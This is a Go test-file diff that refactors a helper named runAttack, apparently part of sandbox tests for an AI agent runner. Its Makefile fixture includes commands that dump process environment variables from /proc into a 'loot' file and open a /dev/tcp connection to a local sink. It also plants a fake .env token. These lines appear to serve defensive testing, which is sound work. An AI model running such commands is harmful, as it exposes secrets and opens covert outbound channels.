@@ -13,6 +13,7 @@ import (
 	"sync"
 	"testing"
 
+	"github.com/seed43ef5acb/runner/internal/gittest"
 	"github.com/seed43ef5acb/runner/llm/llmtest"
 	"github.com/seed43ef5acb/runner/runner/event"
 	"github.com/seed43ef5acb/runner/tools/sandbox"
@@ -174,27 +175,15 @@ func runAttack(t *testing.T, pin, section string) attack {
 	-for p in %[2]d %[3]d; do tr '\0' '\n' < /proc/$$p/environ >> loot/environ; done
 	-bash -c 'exec 3<>/dev/tcp/%[4]s && echo mark >&3'
 `, a.outside, os.Getpid(), os.Getppid(), strings.Replace(a.sink.ln.Addr().String(), ":", "/", 1))
-	a.repo = gitRepo(t, map[string]string{"Makefile": makefile, ".env": "API_TOKEN=dotenv-secret-0123456789\n"})
+	a.repo = gittest.Repo(t, map[string]string{"Makefile": makefile, ".env": "API_TOKEN=dotenv-secret-0123456789\n"})
 	var err error
 	if a.gitConfig, err = os.ReadFile(filepath.Join(a.repo, ".git", "config")); err != nil {
 		t.Fatal(err)
 	}
 	t.Setenv("XDG_CACHE_HOME", t.TempDir())
-	spec := filepath.Join(t.TempDir(), "task.yaml")
-	mustWrite(t, spec, gateSpec+section)
-	srv := newModel(t, makeTurn(), llmtest.Turn{Text: "Built."}.Reply())
-	var stderr bytes.Buffer
-	env := []string{"PATH=" + os.Getenv("PATH")}
-	if pin != "" {
-		env = append(env, sandbox.LayersEnv+"="+pin)
-	}
-	_, a.err = Exec(t.Context(), ExecOptions{Task: spec, Repo: a.repo, Out: a.out, BaseURL: srv.URL(), Quiet: true,
-		APIKey: "sk-unit-0123456789abcdef", Stderr: &stderr, Environ: env})
-	data, err := os.ReadFile(filepath.Join(a.out, "events.jsonl"))
-	if err != nil {
-		t.Fatalf("%v\n%s", err, stderr.String())
-	}
-	a.recs = validLog(t, data)
+	r := testRun{spec: gateSpec + section, repo: a.repo, replies: []llmtest.Reply{makeTurn(), llmtest.Turn{Text: "Built."}.Reply()},
+		pin: pin, out: a.out}.exec(t)
+	a.err, a.recs = r.err, r.recs
 	return a
 }
 
